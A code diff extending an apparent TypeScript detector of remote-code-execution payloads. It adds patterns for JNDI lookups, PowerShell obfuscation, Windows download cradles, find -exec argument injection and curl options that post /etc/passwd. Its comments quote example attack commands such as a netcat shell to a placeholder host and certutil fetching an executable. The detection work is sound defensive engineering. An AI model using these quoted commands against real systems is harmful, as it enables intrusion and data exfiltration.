@@ -57,13 +57,37 @@ const CODE_EXEC = new RegExp(
     '\\bos\\s*\\.\\s*(?:system|popen|exec[lv]p?e?)\\s*\\(',
     '\\bsubprocess\\s*\\.\\s*(?:call|run|popen|check_output)\\s*\\(',
     '!!python/(?:object|name|module)',
+    // Ruby's YAML tags that build an object of any class (Psych, `--- !ruby/object:Gem::Installer`).
+    '!ruby/(?:object|struct|hash|marshal|class|module|exception)\\b',
+    // Ghostscript's pipe device: `(%pipe%id) (w) file` runs a command from a PostScript or EPS image.
+    '%pipe%[^\\s%]',
+    // Python compiling a string to run it.
+    '\\b(?:eval|exec)\\s*\\(\\s*compile\\s*\\(',
+    // A JNDI name with a remote naming scheme, with or without its Log4j `${...}`
+    // (`jndi:ldap://host/a`): what a lookup fetches a class from.
+    'jndi\\s*:\\s*(?:ldaps?|rmi|dns|iiop|corbaname|nds|nis)\\s*:\\/\\/',
+    // PowerShell running text: a script block or an assembly built from it, the engine's own
+    // command invoker, a name put together by concatenation and called (`&("who"+"ami")`,
+    // `.("i"+"ex")`).
+    '\\[(?:system\\.)?(?:management\\.automation\\.)?scriptblock\\]::create\\s*\\(|\\[(?:system\\.)?reflection\\.assembly\\]::load\\w{0,20}\\s*\\(|\\$executioncontext\\s*\\.\\s*invokecommand\\b',
+    '(?:^|[\\s;|(])[&.]\\s*\\(\\s*(?:\'[\\w.-]{1,20}\'|"[\\w.-]{1,20}")\\s*\\+\\s*[\'"$]',
     'runtime\\s*\\.\\s*getruntime\\s*\\(\\s*\\)\\s*\\.\\s*exec',
     'processbuilder\\s*\\(',
     'require\\s*\\(\\s*[\'"]child_process[\'"]\\s*\\)',
     '#_memberaccess|@java\\.lang\\.runtime|%\\{\\s*\\(#',
     '\\bex\\s*"?\\s*&?\\s*"?e\\s*"?\\s*&?\\s*"?cute\\s*\\(\\s*"', // VBScript Execute("...")
     '\\bev\\s*al\\s*\\(\\s*"',
-    'cmd(?:\\.exe)?\\s+/[ck]\\s',
+    // find's `-exec` given a command and its end, as the whole value (`-exec whoami \;`, `-execdir
+    // sh {} +`): an option that runs a program, handed to a find command line (argument injection).
+    // Not inside a command line a snippet shows (`find . -name '*.log' -exec gzip {} \;`).
+    '^\\s*-(?:exec|execdir|ok|okdir)\\s+[^\\s;]{1,100}(?:\\s[^;\\n]{0,200}?)?\\s(?:\\\\;|\'?;\'?|"?;"?|\\+)(?:\\s|$)',
+    // An HTTP client told to send a system file (`--post-file=/etc/passwd`, `-d @/etc/shadow`,
+    // `--upload-file /root/.ssh/id_rsa`): exfiltration through an option.
+    '(?:--(?:post|body)-file[ =]|--data(?:-binary|-urlencode|-raw)?[ =]@|(?:^|\\s)-d\\s*@|--upload-file[ =]|(?:^|\\s)-T\\s+|(?:^|\\s)-F\\s*[\'"]?\\w{1,30}=@)\\/(?:etc|proc|root|home)\\/',
+    // A task scheduled to run a command (`schtasks /create ... /tr calc.exe`).
+    '\\bschtasks(?:\\.exe)?\\s+\\/create\\b[^\\n]{0,300}?\\s\\/tr\\s',
+    // cmd.exe's switches may come before `/c` (`cmd /v:on /c ...`, `cmd /q /c`).
+    'cmd(?:\\.exe)?\\s+(?:/[a-z](?::\\w{1,10})?\\s+){0,4}/[ck]\\s',
     '<!--\\s*#\\s*exec\\s+(?:cmd|cgi)\\s*=', // SSI exec runs a command
     '\\bpowershell(?:\\.exe)?\\s+-(?:e|enc|encodedcommand|c|command|nop|w|windowstyle|exec)\\b',
   ].join('|'),
@@ -106,9 +130,10 @@ const ASSIGN_THEN_RUN = /(?:^|[;&|\s^])([A-Za-z_]\w{0,30})=[^;&|\s]{1,100}\s*[;&
  * bash's `alias` builtin given a command (`alias -p jzfrx=id`, `alias ls-al='ls -al'`,
  * `alias x="curl"`) or defining a name that is then run (`alias a=c${KK}url&a google.com`,
  * `alias eennvv=env&eennvv whoami`): in a parameter, an alias only serves to make a command
- * appear under another name than the one a filter looks for.
+ * appear under another name than the one a filter looks for. Also right after a `=`: a form body
+ * read whole (`rce=alias a=c${KK}url&a host`) has the parameter's name before it.
  */
-const ALIAS_DEFINITION = /(?:^|[;&|\s`(])alias\s+(?:-[a-z]+\s+)*(['"]?)([^\s='"]{1,30})\1=(['"]?)([^\s;&|'"]{1,100})/g;
+const ALIAS_DEFINITION = /(?:^|[;&|\s`(=])alias\s+(?:-[a-z]+\s+)*(['"]?)([^\s='"]{1,30})\1=(['"]?)([^\s;&|'"]{1,100})/g;
 function aliasedCommand(v: string): boolean {
   for (const m of v.matchAll(ALIAS_DEFINITION)) {
     const [, , name, , value] = m;
@@ -228,7 +253,7 @@ function guardedCodeExec(v: string): boolean {
  * shell is made of.
  */
 const SHELL_ONLY =
-  /[<>]\s*\/dev\/(?:tcp|udp)\/[\w.:-]{1,255}\/\d{1,5}|\$\(\s*<\s*['"]?(?:\/|~\/|\.\.\/)[^)]{1,200}\)|\$\{IFS\}|\$IFS\b|\$\(\(\s*-?\d+\s*[-+*\/%^&|]\s*-?\d+\s*\)\)|\$\[\s*-?\d+\s*[-+*\/%]\s*-?\d+\s*\]/;
+  /[<>]\s*\/dev\/(?:tcp|udp)\/[\w.:-]{1,255}\/\d{1,5}|\$\(\s*<\s*['"]?(?:\/|~\/|\.\.\/)[^)]{1,200}\)|\$\{IFS\}|\$IFS\b|\$\(\(\s*-?\d+\s*[-+*\/%^&|]\s*-?\d+\s*\)\)|\$\[\s*-?\d+\s*[-+*\/%]\s*-?\d+\s*\]|\$\{#[A-Za-z_]\w{0,30}\}|\$\{[A-Za-z_]\w{0,30}(?:##?|%%|\^\^|,,)/;
 
 /**
  * What is injected into any header, standard ones included (`Accept`, `Authorization`, `Range`...,
@@ -267,7 +292,21 @@ export function isRce(value: string): boolean {
   )
     return true;
   if (shellCommandIn(value.includes('```') ? withoutCodeBlocks(value) : value)) return true;
-  return (value.includes('^') || value.includes('%') || value.includes('$env:')) && cmdCommandIn(value);
+  if ((value.includes('^') || value.includes('%') || value.includes('$env:')) && cmdCommandIn(value)) return true;
+  return value.includes('`') && powershellCommandIn(value);
+}
+
+/**
+ * The value as PowerShell reads it (docs/detection.md, branch i18-rce4): a backtick escapes the
+ * next character, and before a letter that names no control character (`` `0 `a `b `e `f `n `r
+ * `t `u `v ``) it is dropped, so ``i`ex`` is `iex` and ``Inv`oke-Ex`pression`` a cmdlet. Read only
+ * when a backtick sits between two letters, which Markdown's inline code never does.
+ */
+const POWERSHELL_ESCAPE = /[A-Za-z]`[A-Za-z]/;
+function powershellCommandIn(value: string): boolean {
+  if (!POWERSHELL_ESCAPE.test(value)) return false;
+  const text = value.replace(/`(?=[c-dg-mo-qswxyzA-Z])/g, '');
+  return CODE_EXEC.test(text) || POWERSHELL_LINE.test(text) || PROGRAM_ALONE.test(text) || shellCommandIn(text);
 }
 
 /**
@@ -414,6 +453,26 @@ const DOWNLOADERS = new Set(['wget', 'curl', 'lynx', 'tftp', 'aria2c', 'fetch', 
 const URL_ARGUMENT = /^(?:-{1,2}\w[\w-]{0,20}(?:[\s=]{1,4}\S{1,40})?\s{1,4}){0,6}(?:https?|ftps?|tftp):\/\/\S/i;
 
 /**
+ * Windows programs that fetch and run, or save, what a URL or a share names (`certutil -urlcache -f
+ * http://x/a.exe a.exe`, `mshta http://x/a.hta`, `regsvr32 /s /i:http://x/a.sct scrobj.dll`,
+ * `bitsadmin /transfer j http://x/a.exe c:\a.exe`): given a URL or a UNC path among their arguments,
+ * with any options before it, the value is a download cradle (docs/detection.md, branch i18-rce4).
+ */
+const WINDOWS_FETCHERS = new Set(['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'cscript', 'wscript']);
+/**
+ * WMIC's grammar, an alias then a verb (`wmic os get caption`, `wmic process call create calc`,
+ * `wmic /node:x useraccount list`), the registry tool given a hive, and cmd.exe's timing probes (`timeout /t 10`, `waitfor /t 10
+ * x`): Windows command lines whose words alone are no prose.
+ */
+const WMIC_ARGUMENTS =
+  /^(?:\/\S{1,100}\s+)*(?:process|os|useraccount|service|shadowcopy|qfe|nicconfig|computersystem|group|startup|share|logicaldisk|product|environment|bios|cpu|sysaccount|ntdomain)\s+(?:get|call|list|where|delete|set|create)\b/i;
+/** `reg` given an operation and a registry hive (`reg query HKLM\Software`, `reg add "HKCU\...\Run" /v x /d y`). */
+const REG_ARGUMENTS =
+  /^(?:query|add|delete|save|export|import|copy|load)\s+["']?(?:HKLM|HKCU|HKCR|HKU|HKCC|HKEY_[A-Z_]{4,30})(?:\\|["']?(?:\s|$))/i;
+const WINDOWS_WAIT = /^(?:\/\w{1,8}\s+)*\/t\s+\d{1,5}\b/i;
+const REMOTE_ARGUMENT = /(?:^|[\s:="'])(?:(?:https?|ftps?):\/\/[\w.-]|\\\\[\w.-]{1,255}\\|(?:java|vb)script:)/i;
+
+/**
  * Programs that reach a host they are given (lookups, pings, connections, downloads): with a host
  * name and nothing else but options and a port, the value is a probe that calls back to whoever
  * owns the name (`nslookup x.oast.example.net`, `ping -c 1 x.example.net`, `nc x.example.net 80`).
@@ -444,6 +503,10 @@ function knownCommandLine(value: string): boolean {
   if (DOWNLOADERS.has(name) && m[1] === name && URL_ARGUMENT.test(value.slice(m[0].length))) return true;
   if (NETWORK_PROBES.has(name) && m[1] === name && HOST_ARGUMENT.test(value.slice(m[0].length))) return true;
   if (FILE_READERS.has(name) && m[1] === name && readsFile(value.slice(m[0].length))) return true;
+  if (WINDOWS_FETCHERS.has(name) && REMOTE_ARGUMENT.test(value.slice(m[0].length))) return true;
+  if (name === 'wmic' && WMIC_ARGUMENTS.test(value.slice(m[0].length))) return true;
+  if (name === 'reg' && REG_ARGUMENTS.test(value.slice(m[0].length))) return true;
+  if ((name === 'timeout' || name === 'waitfor') && WINDOWS_WAIT.test(value.slice(m[0].length))) return true;
   return (
     (STRONG_SET.has(name) || WEAK_SET.has(name)) &&
     name !== 'set' &&
@@ -472,8 +535,15 @@ const BIN_DIRS = ['/bin/', '/usr/bin/', '/sbin/', '/usr/sbin/', '/usr/local/bin/
 function shellCommandIn(raw: string): boolean {
   const value = raw.includes('&') && raw.includes(';') ? raw.replace(COMMAND_NAMED_REFERENCE, '_') : raw;
   if (knownCommandLine(value)) return true;
-  if (!MAY_BE_SHELL.test(value) && !/^\s*\//.test(value)) return false;
+  // A command line whose only shell character is `/` (`certutil -urlcache -f http://x/a a.exe`,
+  // `chmod 777 /tmp/a`, `tasklist /v`): read as programLine reads one without any, its paths
+  // absolute (`and/or` in prose is no path).
+  if (!MAY_BE_SHELL.test(value) && !/^\s*\//.test(value)) return programLine(value, true);
   if (shellReading(value, value, false)) return true;
+  // A line break written as `\n` at the start or after a separator (`;\n.shell nc host 80 -e sh`,
+  // `\nid`): what an application that unescapes its string (JSON, `echo -e`, printf) hands on.
+  if (value.includes('\\n') && ESCAPED_BREAK.test(value) && shellReading(value.replace(ESCAPED_BREAKS, '$1\n'), value, false))
+    return true;
   // `+` for space (form encoding one layer left undone) in a value without spaces, or around separators.
   if (
     value.includes('+') &&
@@ -493,6 +563,10 @@ function shellCommandIn(raw: string): boolean {
  */
 const COMMAND_NAMED_REFERENCE = /&(?:copy|COPY|reg|REG|top|dd);/g;
 
+/** `\n` written as two characters at the start of the value or after a separator (not `c:\new`). */
+const ESCAPED_BREAK = /(?:^|[;|&])\s*\\n/;
+const ESCAPED_BREAKS = /(^|[;|&]\s*)\\n/g;
+
 /** What every shell form other than a plain leading path needs: a separator, substitution, quote, escape or brace. */
 const MAY_BE_SHELL = /[;&|\n\r()`$'"\\{%]/;
 /** A value that opens by closing a quoted string and ending the command (`';echo x;'`). */
@@ -504,10 +578,11 @@ function shellReading(text: string, value: string, afterQuote: boolean): boolean
   if (r.ifs && r.commands.length > 0) return true;
   const breaksOut = afterQuote && QUOTE_BREAK.test(value);
   const leads = !afterQuote && LEADING_SEPARATOR.test(text) && !TABLE_ROW.test(text);
+  const script = r.commands.length > 1 && isScriptShown(value);
   for (let i = 0; i < r.commands.length; i++) {
     const c = r.commands[i];
     if (afterQuote && c.began === 'start') continue;
-    if (isShellCommand(c, value)) return true;
+    if (isShellCommand(c, value, script)) return true;
     if (leads && i === 0 && ledCommand(c)) return true;
     // `cd /;cd etc;...`, `cd /tmp && wget ...`: a change of directory to a path, then more commands.
     if (i === 0 && c.began === 'start' && r.commands.length > 1 && CHANGE_DIRECTORY.test(c.words.join(' '))) return true;
@@ -518,6 +593,32 @@ function shellReading(text: string, value: string, afterQuote: boolean): boolean
     }
   }
   return false;
+}
+
+/**
+ * A whole script as documentation and snippets show one (docs/detection.md, branch i18-rce4): a
+ * script file from its `#!` line, a compound command written out from its keyword to its end (`for i in $(seq 1 10); do ...; done`,
+ * `if ...; then ...; fi`), or lines after a package manager's subcommand line (`pip install
+ * requests` then `python -m http.server 8000`: a README's next step). Its substitutions and later
+ * lines are ordinary commands; only what an attack needs counts there (isShellCommand).
+ */
+const COMPOUND_OPEN = /^\s*(for|while|until|select|if|case)\s/;
+const COMPOUND_CLOSE: Record<string, RegExp> = {
+  for: /\bdone\s*;?\s*$/,
+  while: /\bdone\s*;?\s*$/,
+  until: /\bdone\s*;?\s*$/,
+  select: /\bdone\s*;?\s*$/,
+  if: /\bfi\s*;?\s*$/,
+  case: /\besac\s*;?\s*$/,
+};
+const PACKAGE_LINE = /^\s*(?:npm|npx|pip3?|pipx|gem|apt|apt-get|aptitude|yum|dnf|rpm|dpkg)[ \t]+[a-z][^\n;|&`$]*\r?\n/;
+/** A script file's first line naming its interpreter (`#!/bin/bash`, `#!/usr/bin/env python3`). */
+const SHEBANG = /^#![ \t]*\/(?:usr\/)?(?:local\/)?bin\/(?:env[ \t]+)?[\w.-]{1,30}[^\n]{0,100}\r?\n/;
+function isScriptShown(value: string): boolean {
+  if (value.startsWith('#!')) return SHEBANG.test(value);
+  const open = COMPOUND_OPEN.exec(value);
+  if (open !== null) return COMPOUND_CLOSE[open[1]].test(value);
+  return PACKAGE_LINE.test(value);
 }
 
 /**
@@ -596,7 +697,7 @@ function isPlainShell(value: string): boolean {
  * value only a command name spelled to dodge filters (`wh''oami`), a program given by its path in a
  * bin directory, an interpreter with `-c`, or a known command run by a wrapper (`time sh -c id`).
  */
-function isShellCommand(c: ShellCommand, value: string): boolean {
+function isShellCommand(c: ShellCommand, value: string, script = false): boolean {
   const w = c.words;
   let k = 0;
   let wrapped = false;
@@ -632,6 +733,14 @@ function isShellCommand(c: ShellCommand, value: string): boolean {
   const args = w.slice(k + 1);
   const arg = args.join(' ');
   const lower = word === word.toLowerCase();
+  // In a script shown as text (isScriptShown), a substitution or a later line of a word-command is
+  // the script's own (`$(seq 1 10)`, `node server.js`): a probe alone, a system file or a bin path counts.
+  if (script && (c.began === 'substitution' || c.afterNewline) && !binPath && !(strong && c.began === 'substitution'))
+    return (
+      known &&
+      lower &&
+      (c.obfuscated || args.some((a) => SYSTEM_FILE.test(a)) || (args.length === 0 && (ALONE.has(name) || RECON.has(name))))
+    );
   if (c.began === 'substitution') {
     if (c.backtick && args.length === 0) {
       const at = value.indexOf('`' + w[k]);
@@ -768,7 +877,8 @@ function commandArgument(cmd: string, arg: string): boolean {
   if (isStackFrame(cmd, arg)) return false;
   // Windows `net user`, `net localgroup administrators`...
   if (cmd === 'net') return /^(?:user|localgroup|group|view|share|use|accounts|session|start|stop)\b/i.test(arg);
-  return shellArgument(arg) || (NUMERIC_ARGUMENT.has(cmd) && /^\d+$/.test(arg));
+  // A number, also with a comment glued to it (`;sleep 5#`, which ends the application's line).
+  return shellArgument(arg) || (NUMERIC_ARGUMENT.has(cmd) && /^\d+(?:#.*)?$/.test(arg));
 }
 
 /** An argument a command line has and prose does not: a flag, a path, a redirection, `$`. */
@@ -822,7 +932,9 @@ const FILE_ARGUMENT =
  * requests"); a word closed by prose punctuation is a sentence.
  */
 const ARGUMENT_SHAPE =
-  /^(?:--?[a-z][\w-]{0,30}(?:=\S{1,100})?|\.{0,2}\/\S{0,200}|[\w.-]{1,60}\/\S{1,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?|[\w.-]{1,64}@[\w.-]{1,255}|[a-z][\w.-]{0,63}:\d{1,5}|[a-z][a-z0-9+.-]{1,10}:\/\/\S{1,200})$/i;
+  /^(?:--?[a-z][\w-]{0,30}(?:=\S{1,100})?|\.{0,2}\/\S{0,200}|[\w.-]{1,60}\/\S{1,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?|[\w.-]{1,64}@[\w.-]{1,255}|[a-z][\w.-]{0,63}:\d{1,5}|[a-z][a-z0-9+.-]{1,10}:\/\/\S{1,200}|(?:exec|system|tcp[46]?|udp[46]?|(?:tcp|udp|openssl|unix)-(?:connect|listen)|openssl|pty|stdio):\S{0,200})$/i;
+/** A relative path `x/y` of ARGUMENT_SHAPE, which prose writes too (`and/or`, `3/4`). */
+const RELATIVE_PATH = /^(?!\.{1,2}\/)[\w.-]{1,60}\/\S{1,200}$/;
 const PROSE_WORD = /[.,;:?!)]$|^[(]|^[A-Z][a-z]{2,}$/;
 /** Base64 of a key or a token (`AAAAC3NzaC1lZDI1NTE5...`): data, not an argument typed on a command line. */
 const BLOB = /^[A-Za-z0-9+/]{40,}={0,2}$/;
@@ -834,8 +946,9 @@ const BLOB = /^[A-Za-z0-9+/]{40,}={0,2}$/;
  * -p 8080:80 --name web nginx:latest`, are documentation), one of them shaped as only command
  * lines write them (ARGUMENT_SHAPE, FILE_ARGUMENT), none a word of a sentence or a key's blob.
  */
-export function programArguments(word: string, args: readonly string[]): boolean {
+export function programArguments(word: string, args: readonly string[], absolutePaths = false): boolean {
   if (args.length === 0 || args.length > 4 || word !== word.toLowerCase()) return false;
+
   const name = baseName(word);
   if (!STRONG_SET.has(name) && !SUITE_PREFIX.test(word)) return false;
   // `npm install --save x`, `pip install -r requirements.txt`: the install line of every README.
@@ -843,7 +956,8 @@ export function programArguments(word: string, args: readonly string[]): boolean
   let shaped = false;
   for (const a of args) {
     if (a.length > 200 || BLOB.test(a) || (PROSE_WORD.test(a) && !FILE_ARGUMENT.test(a))) return false;
-    if (!shaped && (ARGUMENT_SHAPE.test(a) || FILE_ARGUMENT.test(a))) shaped = true;
+    if (!shaped && ((ARGUMENT_SHAPE.test(a) && !(absolutePaths && RELATIVE_PATH.test(a))) || FILE_ARGUMENT.test(a)))
+      shaped = true;
   }
   return shaped;
 }
@@ -853,12 +967,12 @@ export function programArguments(word: string, args: readonly string[]): boolean
  * characters. The first word is looked up before the value is split, so prose costs a lookup.
  */
 const FIRST_WORD = /^\s*([a-z][\w.+-]{1,30})\s/;
-export function programLine(value: string): boolean {
+export function programLine(value: string, absolutePaths = false): boolean {
   if (value.length > MAX_PLAIN_COMMAND) return false;
   const first = FIRST_WORD.exec(value)?.[1];
   if (first === undefined || (!STRONG_SET.has(baseName(first)) && !SUITE_PREFIX.test(first))) return false;
   const words = value.trim().split(/\s+/);
-  return programArguments(words[0], words.slice(1));
+  return programArguments(words[0], words.slice(1), absolutePaths);
 }
 
 /** One or more options and nothing else (`-la`, `-n -s`, `--all`). */
